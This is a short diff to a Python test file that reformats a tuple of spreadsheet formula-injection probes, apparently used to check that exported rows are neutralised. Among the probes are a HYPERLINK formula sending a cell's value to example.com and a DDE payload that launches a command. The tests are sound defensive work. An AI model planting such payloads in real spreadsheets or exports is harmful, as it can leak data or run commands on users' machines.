@@ -20,9 +20,14 @@ from tests.support.client import ApiClient
 
 ROOT = Path(__file__).resolve().parent.parent.parent
 FORMULAS = (
-    '=HYPERLINK("http://example.com?x="&A1)', "+84912345678", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
-    "＝1+1", "-Nhóm Chè", "=1",
-)  # fmt: skip
+    '=HYPERLINK("http://example.com?x="&A1)',
+    "+84912345678",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    "＝1+1",
+    "-Nhóm Chè",
+    "=1",
+)
 
 
 async def rows_with(registry: ApiClient, texts: tuple[str, ...], **wanted: Any) -> tuple[bytes, list[dict[str, str]]]:
